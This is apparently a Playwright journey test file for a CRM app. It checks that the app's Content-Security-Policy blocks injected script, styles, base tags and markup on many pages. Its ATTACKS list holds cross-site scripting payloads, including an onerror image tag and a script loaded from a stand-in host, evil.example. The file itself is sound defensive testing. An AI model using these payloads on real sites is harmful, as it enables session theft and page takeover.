"""No page does what its Content-Security-Policy refuses: nothing inline, nothing from elsewhere, no text as markup."""

import time
from urllib.parse import quote

import pytest
from playwright.sync_api import Page, expect

from rapport.local.demo_data import ORGANISATIONS
from tests.journeys.conftest import PATIENCE, OpenPage
from tests.journeys.steps import searching
from tests.journeys.walk import Walk

pytestmark = pytest.mark.journey

# Heard by a listener of the page's own, from before its first script on.
LISTEN = """
document.addEventListener("securitypolicyviolation", (event) => window.heard(
  `${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile}:${event.lineNumber} ${event.sample}`));
"""
PAGES = (
    "/", "/o/companies", "/o/contacts", "/o/leads", "/o/deals", "/o/deals/board", "/o/tasks", "/o/products",
    "/o/companies/duplicates", "/funnel", "/import", "/billing", "/billing/invoices", "/billing/usage", "/billing/plan",
    "/billing/outcome", "/settings/profile", "/settings/security", "/settings/tokens", "/settings/organisation",
    "/settings/members", "/settings/teams", "/settings/domains", "/settings/sign-in", "/settings/roles",
    "/settings/territories", "/settings/sharing-rules", "/settings/queues", "/settings/audit",
    "/settings/data", "/settings/archive", "/mailbox", "/status", "/nothing-here",
)  # fmt: skip


def listened(page: Page) -> list[str]:
    """The violations of a page, as they come."""
    found = list[str]()

    def heard(line: str) -> None:
        found.append(line)

    page.expose_function("heard", heard)
    page.add_init_script(LISTEN)
    return found


@pytest.mark.asvs("V3.4.3")
@pytest.mark.parametrize(("locale", "dark", "phone"), [("zh-CN", False, False), ("en", True, True)])
def test_no_page_breaks_the_policy(open_page: OpenPage, locale: str, dark: bool, phone: bool) -> None:
    walk = Walk(open_page(locale=locale, dark=dark, phone=phone), locale=locale, dark=dark, phone=phone)
    found = listened(walk.page)
    walk.page.goto("/signup")
    expect(walk.at("signup-company")).to_be_visible()
    sign_in(walk)
    for path in PAGES:
        walk.page.goto(path)
        expect(walk.page.get_by_role("heading").first).to_be_visible()
    use_what_draws_over_a_page(walk)
    assert found == []


@pytest.mark.asvs("V3.4.3")
@pytest.mark.asvs("V3.2.2")
def test_what_is_slipped_into_a_page_does_nothing(open_page: OpenPage) -> None:
    page = open_page(locale="en", expected=("Content Security Policy", "Trusted"))
    found = listened(page)
    page.goto("/signin")
    expect(page.get_by_test_id("signin-email")).to_be_visible()
    page.evaluate("window.harmed = false")
    for attack in ATTACKS:
        page.evaluate(f"() => {{ try {{ {attack} }} catch (error) {{ window.caught = error.name; }} }}")
    # A violation is told of a moment after it; each round trip lets those that have come be heard.
    until = time.monotonic() + PATIENCE / 1000
    while not (refused := {line.split(" ")[0] for line in found}) >= REFUSED and time.monotonic() < until:
        page.evaluate("new Promise(requestAnimationFrame)")
    assert refused == REFUSED
    assert page.evaluate("window.harmed") is False
    assert page.evaluate("document.querySelectorAll('#planted').length") == 0


REFUSED = {"require-trusted-types-for", "style-src-elem", "style-src-attr", "base-uri"}

# What a hole in the application or in a library would let somebody do.
ATTACKS = (
    "const one = document.createElement('button'); one.setAttribute('onclick', 'harmed = true');"
    " document.body.append(one); one.click();",
    "const two = document.createElement('script'); two.src = 'https://evil.example/x.js'; document.body.append(two);",
    "document.body.insertAdjacentHTML('beforeend', '<b id=planted>x</b>');",
    "document.getElementById('root').innerHTML += '<img id=planted src=x onerror=\"harmed = true\">';",
    "const three = document.createElement('style'); three.append('body { opacity: 0 }'); document.head.append(three);",
    "document.body.setAttribute('style', 'opacity: 0');",
    "const four = document.createElement('base'); four.href = 'https://evil.example/'; document.head.append(four);",
    "setTimeout('harmed = true', 0);",
)


def sign_in(walk: Walk, to: str = "/") -> None:
    """Into the demo organisation of the language, and on to where its address says."""
    walk.page.goto(f"/signin?next={quote(to, safe='')}")
    email = next(demo.owner.email for demo in ORGANISATIONS if demo.locale == walk.locale)
    walk.at("demo-login").filter(has_text=email).click()
    walk.at("signin-submit").click()
    expect(walk.at("count-companies")).to_be_visible()


def use_what_draws_over_a_page(walk: Walk) -> None:
    """A record, and a dialog over it: those lock scrolling and place themselves by styles of their own."""
    walk.page.goto("/o/companies")
    walk.at("new-record").click()
    expect(walk.at("save-record")).to_be_visible()
    walk.page.keyboard.press("Escape")
    (walk.at("list-row") if walk.phone else walk.at("row-title")).first.click()
    expect(walk.at("timeline-item").first).to_be_visible()
    walk.at("tab-disk").click()
    expect(walk.at("disk-name")).to_be_visible()
    searching.open_palette(walk)
    expect(walk.at("palette-input")).to_be_visible()
